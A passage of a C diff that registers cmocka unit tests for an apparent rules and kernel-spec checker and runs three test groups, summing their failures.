+	const struct CMUnitTest kernel_tests[] = {
+		cmocka_unit_test(test_kernel_path_containers),
+		cmocka_unit_test(test_kernel_net),
+		cmocka_unit_test(test_kernel_exe_category),
+		cmocka_unit_test(test_kernel_glob_notsup),
+		cmocka_unit_test(test_render_unknown),
+	};
+	int fails = 0;
+
+	fails += cmocka_run_group_tests_name("default rules", default_tests, setup_default,
+					     teardown_default);
+	fails += cmocka_run_group_tests_name("rules check", check_tests, NULL, NULL);
+	fails += cmocka_run_group_tests_name("kernel spec", kernel_tests, setup_kernel,
+					     teardown_default);
+	return fails;
+}
